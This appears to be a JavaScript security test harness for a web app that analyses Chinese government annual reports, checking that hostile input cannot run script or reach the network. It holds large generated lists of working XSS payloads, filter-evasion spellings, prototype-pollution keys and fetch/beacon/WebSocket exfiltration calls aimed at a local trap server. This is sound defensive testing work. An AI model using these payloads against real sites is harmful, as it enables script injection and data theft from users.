// Everything a hostile report could try: ways out aimed at a server, scripts by the hundred, and what each run must leave behind.
import { createSocket } from "node:dgram";
import { createServer } from "node:net";

/**
 * Listens for requests (HTTP, WebSocket) and datagrams (WebRTC), which go to `visits`, and for mere connections, which go to
 * `touches`: Chromium opens one before it refuses a frame or a form that a script asks for, and sends nothing over it.
 */
export async function openTrap() {
  const visits = [];
  const touches = [];
  const server = createServer((socket) => {
    socket.on("error", () => undefined);
    socket.once("data", (data) => visits.push(String(data).split("\r\n")[0]));
    touches.push("connection");
    socket.end("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
  }).listen(0, "127.0.0.1");
  await new Promise((done) => server.on("listening", done));
  const { port } = server.address();
  const datagrams = createSocket("udp4");
  datagrams.on("message", () => visits.push("datagram"));
  await new Promise((done) => datagrams.bind(port, "127.0.0.1", done));
  return { visits, touches, port, url: "http://127.0.0.1:" + port, close() { server.close(); datagrams.close(); } };
}

/** Every way out that markup could take. */
export const waysOut = (url) => [
  `<img src="${url}/img"><img srcset="${url}/srcset 2x" src=x onerror="fetch('${url}/onerror')">`, `<picture><source srcset="${url}/picture"><img></picture>`, `<input type=image src="${url}/button">`,
  `<script>fetch("${url}/script")</script>`, `<script src="${url}/src"></script>`, `<script type=module>import "${url}/module"</script>`, `<script>import("${url}/dynamic")</script>`,
  `<script>window.open("${url}/open")</script>`, `<a href="${url}/blank" target=_blank id=popup onfocus="window.open('${url}/popup')" autofocus>x</a>`,
  `<script>new RTCPeerConnection({iceServers:[{urls:"stun:${url.slice(7)}"}]}).createDataChannel("x")</script>`, `<script>navigator.sendBeacon("${url}/beacon")</script>`,
  `<script>new WebSocket("${url.replace("http", "ws")}/socket")</script>`, `<script>new EventSource("${url}/events")</script>`, `<script>new Worker("${url}/worker")</script>`, `<script>navigator.serviceWorker.register("${url}/service")</script>`,
  `<link rel=stylesheet href="${url}/css"><link rel=prefetch href="${url}/prefetch"><link rel=preload as=image href="${url}/preload"><link rel=modulepreload href="${url}/modulepreload">`,
  `<link rel=dns-prefetch href="${url}/dns"><link rel=preconnect href="${url}"><link rel=prerender href="${url}/prerender"><link rel=manifest href="${url}/manifest"><link rel=icon href="${url}/icon">`,
  `<script type=speculationrules>{"prerender":[{"source":"list","urls":["${url}/speculate"]}]}</script>`,
  `<style>@import url("${url}/import");@font-face{font-family:x;src:url("${url}/font")}*{font-family:x;background:url("${url}/bg");cursor:url("${url}/cursor"),auto;list-style-image:url("${url}/list")}</style>`,
  `<iframe src="${url}/frame" srcdoc="<img src='${url}/srcdoc'>"></iframe><object data="${url}/object"></object><embed src="${url}/embed"><frameset><frame src="${url}/frame2"></frameset>`,
  `<video src="${url}/video" poster="${url}/poster"></video><audio src="${url}/audio"></audio><source src="${url}/source"><track src="${url}/track"><portal src="${url}/portal">`,
  `<form action="${url}/form"><button autofocus onfocus="this.form.submit()">x</button></form><meta http-equiv=refresh content="0;url=${url}/refresh"><base href="${url}/">`,
  `<svg onload="fetch('${url}/svg')"><image href="${url}/svgimage"/><use href="${url}/use#a"/><script href="${url}/svgscript"/><feImage href="${url}/feimage"/></svg>`,
  `<a href="javascript:fetch('${url}/a')" ping="${url}/ping" id=x tabindex=1 onfocus=alert(1) autofocus>x</a>`, `<area href="${url}/area" ping="${url}/areaping">`,
  `<input onfocus="location='${url}/loc'" autofocus><details open ontoggle="fetch('${url}/toggle')"><marquee onstart="fetch('${url}/marquee')">`, `<math><mtext><table><mglyph><style><img src=x onerror="fetch('${url}/mxss')">`,
  `"><img src=x onerror=fetch('${url}/quote')>`, `'-fetch('${url}/js')-'`, "{{constructor.constructor('return fetch')()('" + url + "/template')}}", "${fetch('" + url + "/literal')}",
  `<td background="${url}/td" style="background:url(${url}/tdstyle)">1</td>`, `<table background="${url}/table"><tr><td><p style="background:image-set('${url}/set' 1x)">1</p></td></tr></table>`,
  `<v:imagedata src="${url}/vml"/><o:p style="behavior:url(${url}/behavior)"></o:p>`, `<xml id=x src="${url}/xml"></xml><bgsound src="${url}/sound"><layer src="${url}/layer"><img dynsrc="${url}/dyn" lowsrc="${url}/low">`,
];

const handlers = ["onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforetoggle", "onbegin", "onblur", "oncanplay", "onchange", "onclick", "oncopy", "oncut", "ondblclick", "ondrag", "ondragend",
  "onend", "onerror", "onfocus", "onfocusin", "onformdata", "onhashchange", "oninput", "oninvalid", "onkeydown", "onload", "onloadstart", "onmessage", "onmousemove", "onmouseover", "onpageshow", "onpaste", "onplay", "onpointerenter", "onpointerrawupdate",
  "onpopstate", "onrepeat", "onresize", "onscroll", "onscrollend", "onsearch", "onseeked", "onselect", "onshow", "onstart", "onsubmit", "ontimeupdate", "ontoggle", "ontouchstart", "ontransitionend", "onunhandledrejection", "onunload", "onwheel"];
const tags = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe srcdoc=x", "math", "select autofocus", "style", "marquee", "object data=x", "xss tabindex=1 autofocus", "button popovertarget=x"];
const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "\u0001javascript:", " javascript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "vbscript:", "livescript:", "feed:javascript:"];
const carriers = ["<a href", "<iframe src", "<form action", "<embed src", "<object data", "<svg><a xlink:href", "<math href", "<base href", "<link rel=import href", "<meta http-equiv=refresh content", "<isindex action", "<video poster"];
const enders = ["</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>", "</xmp>", "</iframe>", "<!--", "-->", "--!>", "]]>", "</mark>", "</td></tr></table>", "\"'>", "`>", "<![CDATA[", "<svg></p><style><a id=\"</style>"];
const blow = "window.hacked=1";

/** Payloads by the hundred: each handler on a tag, each scheme in each carrier, each way to break out of an element, and odd spellings. */
export function payloads() {
  const list = [];
  handlers.forEach((handler, i) => { for (let k = 0; k < 4; k++) list.push(`<${tags[(i + k * 4) % tags.length]} ${handler}=${blow}>`); list.push(`"'/><${tags[i % tags.length]}/${handler}="${blow}"`); });
  for (const scheme of schemes) for (const carrier of carriers) list.push(`${carrier}="${scheme}${blow}">x`);
  for (const ender of enders) list.push(ender + `<script>${blow}</script>`, ender + `<img src=x onerror=${blow}>`);
  for (const odd of ["<ScRiPt>", "<script\t>", "<script/x>", "<\u0000script>", "<scr\u0000ipt>", "%3Cscript%3E", "&lt;script&gt;", "\uff1cscript\uff1e", "<script src=data:,window.hacked=1>", "+ADw-script+AD4-", "\\u003cscript\\u003e", "&#x3c;script&#x3e;"]) list.push(odd + blow + "</script>");
  for (const name of ["__proto__", "constructor", "toString", "hasOwnProperty", "innerHTML", "dangerouslySetInnerHTML"]) list.push(name, `{"${name}":{"hacked":1}}`);
  return list;
}

/**
 * Runs in the page, on any kernel: the payloads as pasted HTML, as text, as cells and as file names; then every finding is
 * opened, the tables drawn, a cell edited. Resolves to what ran and what stands in the page that should not.
 */
export async function assault(hostile, sample) {
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const until = async (done) => { for (let i = 0; i < 600 && !done(); i++) await wait(50); if (!done()) throw new Error("in vain: " + done); };
  const settled = () => until(() => document.querySelector("#verdict[data-verdict][aria-busy=false]"));
  const send = (type, key, transfer) => { const event = new Event(type, { bubbles: true, cancelable: true }); Object.defineProperty(event, key, { value: transfer }); document.body.dispatchEvent(event); };
  const pasteIn = async (html, plain) => { const transfer = new DataTransfer(); transfer.setData("text/html", html); transfer.setData("text/plain", plain); send("paste", "clipboardData", transfer); await wait(80); await settled(); };
  const openAll = async () => { for (const head of document.querySelectorAll("#findings .finding-head")) { head.click(); await wait(4); } };
  const all = hostile.join("\n");
  const cells = hostile.map((one) => one.replace(/[|\n]/g, " "));
  const lines = sample.split("\n");
  const rows = lines.filter((line) => line.indexOf("|") >= 0).map((line) => "<tr>" + line.split("|").map((cell) => "<td>" + cell + "</td>").join("") + "</tr>").join("");
  await pasteIn(all + "<h1>2024年政府信息公开工作年度报告</h1><table>" + rows + "</table>" + all, "x");
  await openAll();
  await pasteIn("", sample.replace("一、总体情况", "一、总体情况\n" + all));
  await openAll();
  // A payload for each figure of the tables, some hundreds of them.
  let next = 0;
  for (let turn = 0; turn < 3; turn++) {
    await pasteIn("", lines.map((line) => line.replace(/\| \d+ (?=\|)/g, () => "| " + cells[next++ % cells.length] + " ")).join("\n"));
    await openAll();
  }
  document.getElementById("start-over").click();
  const transfer = new DataTransfer();
  hostile.forEach((name, i) => { if (i % 8 === 0 || i < 40) transfer.items.add(new File([sample.replace("临江县自然资源局", name.replace(/\n/g, " ") + "局")], name + ".txt")); });
  transfer.items.add(new File([all], "a.html"));
  send("drop", "dataTransfer", transfer);
  await until(() => { const list = document.getElementById("reports"); return list && list.dataset.done === list.dataset.total; });
  for (const row of Array.prototype.slice.call(document.querySelectorAll("#reports tbody tr"), 0, 12)) { row.click(); await settled(); }
  await openAll();
  document.getElementById("open-exports").click();
  await wait(400);
  const allowed = /^(DIV|P|SPAN|A|H1|H2|H3|HEADER|MAIN|NAV|SECTION|BUTTON|KBD|TEXTAREA|INPUT|LABEL|SELECT|OPTION|UL|OL|LI|DL|DT|DD|TABLE|THEAD|TBODY|TR|TH|TD|COL|COLGROUP|FIGURE|FIGCAPTION|MARK|DETAILS|SUMMARY|DEL|INS|B|STRONG|SMALL|FORM|FIELDSET|LEGEND|PROGRESS|ARTICLE|svg|path|circle|rect)$/;
  const odd = [];
  for (const one of document.querySelectorAll("#page *")) {
    if (!allowed.test(one.tagName)) odd.push(one.tagName);
    for (const attribute of Array.prototype.slice.call(one.attributes))
      if (/^on|^(src|srcdoc|action|formaction|ping|background|poster|data)$/.test(attribute.name) || (attribute.name === "href" && attribute.value !== "#verdict") || (attribute.name === "style" && !/^width: ?[\d.]+%;?$/.test(attribute.value))) odd.push(one.tagName + " " + attribute.name);
  }
  return { hacked: window.hacked === undefined && Object.prototype.hacked === undefined ? "" : "a payload ran", odd: odd.slice(0, 5), drawn: document.querySelectorAll("td[data-cell]").length };
}

/** Runs in the page: what a script could try, were there one. Resolves to the names of those that got an answer. */
export async function attempts(target) {
  const promise = (make) => new Promise((ok, bad) => { make(ok, bad); setTimeout(() => bad(new Error("silence")), 900); });
  const element = (tag, values) => promise((ok, bad) => { const one = document.createElement(tag); one.onload = ok; one.onerror = bad; Object.assign(one, values); document.head.appendChild(one); });
  const inWorker = (code) => promise((ok, bad) => { const worker = new Worker(URL.createObjectURL(new Blob([code]))); worker.onmessage = (event) => (event.data ? ok() : bad()); worker.onerror = (event) => { event.preventDefault(); bad(); }; });
  const tries = {
    fetch: () => fetch(target + "/1"), opaque: () => fetch(target + "/1b", { mode: "no-cors", keepalive: true }), beacon: () => { navigator.sendBeacon(target + "/2", "x"); throw new Error("see the visits"); },
    xhr: () => promise((ok, bad) => { const request = new XMLHttpRequest(); request.onload = ok; request.onerror = bad; request.open("GET", target + "/3"); request.send(); }),
    socket: () => promise((ok, bad) => { const socket = new WebSocket(target.replace("http", "ws")); socket.onopen = ok; socket.onerror = bad; }),
    events: () => promise((ok, bad) => { const source = new EventSource(target + "/4"); source.onopen = ok; source.onerror = bad; }),
    image: () => promise((ok, bad) => { const image = new Image(); image.onload = ok; image.onerror = bad; image.src = target + "/5"; }),
    style: () => element("link", { rel: "stylesheet", href: target + "/6" }), prefetch: () => element("link", { rel: "prefetch", href: target + "/7" }), preload: () => element("link", { rel: "preload", as: "image", href: target + "/8" }),
    script: () => element("script", { src: target + "/9" }), module: () => element("script", { type: "module", src: target + "/10" }), inline: () => { window.ran = 0; const one = document.createElement("script"); one.textContent = "window.ran = 1"; document.head.appendChild(one); if (!window.ran) throw new Error("stopped"); },
    imported: () => { const one = document.createElement("style"); one.textContent = "@import url(" + target + "/11); body { background: url(" + target + "/12) }"; document.head.appendChild(one); return promise(() => undefined); },
    font: () => new FontFace("x", "url(" + target + "/13)").load(), frame: () => { const frame = document.createElement("iframe"); frame.src = target + "/14"; document.body.appendChild(frame); return promise(() => undefined); },
    object: () => { const one = document.createElement("object"); one.data = target + "/15"; document.body.appendChild(one); return promise(() => undefined); },
    media: () => { const one = document.createElement("video"); one.src = target + "/16"; one.poster = target + "/17"; document.body.appendChild(one); return promise(() => undefined); },
    worker: () => promise((ok, bad) => { const worker = new Worker(target + "/18"); worker.onmessage = ok; worker.onerror = bad; }),
    imports: () => inWorker("importScripts('" + target + "/19');postMessage(1)"), workerFetch: () => inWorker("fetch('" + target + "/20').then(()=>postMessage(1),()=>postMessage(0))"),
    workerSocket: () => inWorker("var s=new WebSocket('" + target.replace("http", "ws") + "');s.onopen=function(){postMessage(1)};s.onerror=function(){postMessage(0)}"),
    service: () => navigator.serviceWorker.register(target + "/21"), form: () => { const form = document.createElement("form"); form.action = target + "/22"; form.target = "_self"; document.body.appendChild(form); form.submit(); return promise(() => undefined); },
  };
  const out = [];
  for (const name of Object.keys(tries)) {
    try { await tries[name](); out.push(name); } catch (_) { continue; }
  }
  return out;
}
